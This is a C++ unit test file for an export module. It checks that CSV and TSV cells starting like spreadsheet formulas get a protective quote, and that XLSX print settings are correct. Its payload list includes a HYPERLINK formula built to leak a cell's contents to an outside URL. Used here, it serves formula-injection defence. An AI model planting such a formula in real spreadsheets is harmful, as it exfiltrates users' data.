#include "http/table_response.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "core/csv.h"

namespace civicdesk::http {
namespace {

// The payloads of issue 17's review, each of which a spreadsheet would run as a formula.
const std::vector<std::string> kPayloads = {
    "=HYPERLINK(\"http://x?leak=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"};

std::string Written(const Table& table, TableFormat format) {
  std::string out;
  Status written = WriteTable(table, format, [&out](std::string_view piece) {
    out += piece;
    return Status::Ok();
  });
  EXPECT_TRUE(written.ok()) << written.message();
  return out;
}

std::vector<std::vector<std::string>> CsvRows(std::string body) {
  if (body.rfind("\xEF\xBB\xBF", 0) == 0) body.erase(0, 3);
  std::istringstream input(body);
  std::vector<std::vector<std::string>> rows;
  Status read = ForEachCsvRow(input, [&rows](std::vector<std::string>& cells, int64_t) {
    rows.push_back(cells);
    return Status::Ok();
  });
  EXPECT_TRUE(read.ok()) << read.message();
  return rows;
}

std::vector<std::vector<std::string>> TsvRows(const std::string& body) {
  std::vector<std::vector<std::string>> rows;
  std::istringstream lines(body);
  std::string line;
  while (std::getline(lines, line)) {
    std::vector<std::string> cells;
    size_t start = 0;
    for (size_t tab = line.find('\t'); tab != std::string::npos; tab = line.find('\t', start)) {
      cells.push_back(line.substr(start, tab - start));
      start = tab + 1;
    }
    cells.push_back(line.substr(start));
    rows.push_back(cells);
  }
  return rows;
}

// A table of (text, count): each payload as text beside the count -5, then a text "-5" and a
// count that is no number.
Table PayloadTable() {
  Table table;
  table.columns = {"text", "count"};
  table.number_columns = {"count"};
  table.rows = [](const DatasetRowWriter& write) -> Status {
    for (const std::string& payload : kPayloads) CIVICDESK_RETURN_IF_ERROR(write({payload, "-5"}));
    CIVICDESK_RETURN_IF_ERROR(write({"-5", "=1+1"}));
    CIVICDESK_RETURN_IF_ERROR(write({"＝全角は数式ではない", "3.25"}));
    return write({"a=1", "1e+20"});
  };
  return table;
}

TEST(WriteTable, CsvAndTsvCellsThatStartLikeAFormulaGetALeadingQuote) {
  for (TableFormat format : {TableFormat::kCsv, TableFormat::kCsvCp932, TableFormat::kTsv}) {
    const std::string body = Written(PayloadTable(), format);
    const bool tsv = format == TableFormat::kTsv;
    std::vector<std::vector<std::string>> rows = tsv ? TsvRows(body) : CsvRows(body);
    ASSERT_EQ(rows.size(), kPayloads.size() + 4) << body;
    EXPECT_EQ(rows[0], (std::vector<std::string>{"text", "count"}));
    for (size_t i = 0; i < kPayloads.size(); ++i) {
      std::string expected = "'" + kPayloads[i];
      // TSV turns tabs and line breaks into spaces, after the guard.
      if (tsv)
        for (char& c : expected) c = (c == '\t' || c == '\r') ? ' ' : c;
      ASSERT_EQ(rows[i + 1].size(), 2u);
      EXPECT_EQ(rows[i + 1][0], expected) << static_cast<int>(format);
      EXPECT_EQ(rows[i + 1][1], "-5") << "a number column keeps its numbers raw";
    }
    const size_t last = kPayloads.size() + 1;
    EXPECT_EQ(rows[last][0], "'-5") << "in a text column -5 is guarded";
    EXPECT_EQ(rows[last][1], "'=1+1") << "a number column guards what is no number";
    EXPECT_EQ(rows[last + 1][1], "3.25");
    EXPECT_EQ(rows[last + 2][0], "a=1");
    EXPECT_EQ(rows[last + 2][1], "1e+20");
    if (format != TableFormat::kCsvCp932)
      EXPECT_EQ(rows[last + 1][0], "＝全角は数式ではない") << "only ASCII starts are guarded";
  }
}

TEST(WriteTable, JsonAndXlsxKeepTheTextAsItIs) {
  nlohmann::json rows = nlohmann::json::parse(Written(PayloadTable(), TableFormat::kJson));
  for (size_t i = 0; i < kPayloads.size(); ++i) EXPECT_EQ(rows[i]["text"], kPayloads[i]);
  // XLSX cells are strings, never formulas: nothing to guard (and no ' to show).
  EXPECT_EQ(Written(PayloadTable(), TableFormat::kXlsx).substr(0, 2), "PK");
}

// The contents of `member` in the zip archive `bytes`, read by Debian's unzip as a person would.
std::string ZipMember(const std::string& bytes, const std::string& member) {
  char path[] = "/tmp/civicdesk-zip-XXXXXX";
  const int descriptor = mkstemp(path);
  EXPECT_GE(descriptor, 0);
  EXPECT_EQ(write(descriptor, bytes.data(), bytes.size()), static_cast<ssize_t>(bytes.size()));
  close(descriptor);
  std::string out;
  if (FILE* pipe = popen(("unzip -p " + std::string(path) + " " + member).c_str(), "r")) {
    char buffer[4096];
    size_t got = 0;
    while ((got = fread(buffer, 1, sizeof(buffer), pipe)) > 0) out.append(buffer, got);
    pclose(pipe);
  }
  std::remove(path);
  return out;
}

// Issue 25 #9: the published result's XLSX printed on 7 portrait pages with the header on the
// first only. A wide table prints A4 landscape, one page wide, its header row on every page.
TEST(WriteTable, XlsxPrintsOnA4OnePageWideWithTheHeaderRepeated) {
  Table wide = PayloadTable();
  wide.sheet_name = "区民意見";
  wide.column_widths = {60, 70};
  const std::string bytes = Written(wide, TableFormat::kXlsx);
  const std::string sheet = ZipMember(bytes, "xl/worksheets/sheet1.xml");
  ASSERT_FALSE(sheet.empty()) << "unzip could not read the workbook";
  EXPECT_NE(sheet.find("<pageSetUpPr fitToPage=\"1\"/>"), std::string::npos) << sheet;
  EXPECT_NE(sheet.find("paperSize=\"9\""), std::string::npos);
  EXPECT_NE(sheet.find("fitToHeight=\"0\""), std::string::npos);
  EXPECT_NE(sheet.find("orientation=\"landscape\""), std::string::npos);
  EXPECT_NE(sheet.find("<pane ySplit=\"1\""), std::string::npos);
  const std::string workbook = ZipMember(bytes, "xl/workbook.xml");
  EXPECT_NE(workbook.find("_xlnm.Print_Titles"), std::string::npos) << workbook;
  EXPECT_NE(workbook.find("!$1:$1"), std::string::npos) << workbook;

  // Two narrow columns fit a portrait page.
  const std::string narrow =
      ZipMember(Written(PayloadTable(), TableFormat::kXlsx), "xl/worksheets/sheet1.xml");
  EXPECT_NE(narrow.find("paperSize=\"9\""), std::string::npos);
  EXPECT_EQ(narrow.find("orientation=\"landscape\""), std::string::npos);
}

TEST(WriteTable, TheStreamOverloadWritesTheSameBytes) {
  std::ostringstream out;
  ASSERT_TRUE(WriteTable(PayloadTable(), TableFormat::kCsv, out).ok());
  EXPECT_EQ(out.str(), Written(PayloadTable(), TableFormat::kCsv));
}

TEST(GuardFormula, OwaspRule) {
  for (const std::string& payload : kPayloads) {
    EXPECT_EQ(GuardFormula(payload), "'" + payload);
    EXPECT_EQ(GuardFormula(payload, true), "'" + payload);
    std::string back = GuardFormula(payload);
    UnguardFormula(back);
    EXPECT_EQ(back, payload);
  }
  EXPECT_EQ(GuardFormula("-5", true), "-5");
  EXPECT_EQ(GuardFormula("-0.5", true), "-0.5");
  EXPECT_EQ(GuardFormula("-5"), "'-5");
  EXPECT_EQ(GuardFormula("-2+3", true), "'-2+3");
  EXPECT_EQ(GuardFormula(""), "");
  EXPECT_EQ(GuardFormula("'quoted"), "'quoted");
  EXPECT_EQ(GuardFormula(" =1"), " =1");
  EXPECT_TRUE(IsPlainNumber("12"));
  EXPECT_TRUE(IsPlainNumber("-1.5e-3"));
  EXPECT_FALSE(IsPlainNumber("-"));
  EXPECT_FALSE(IsPlainNumber("1."));
  EXPECT_FALSE(IsPlainNumber("+1"));
  EXPECT_FALSE(IsPlainNumber("1,000"));
  std::string plain = "'quoted";
  UnguardFormula(plain);
  EXPECT_EQ(plain, "'quoted") << "only a ' before a guarded character is taken off";
}

}  // namespace
}  // namespace civicdesk::http
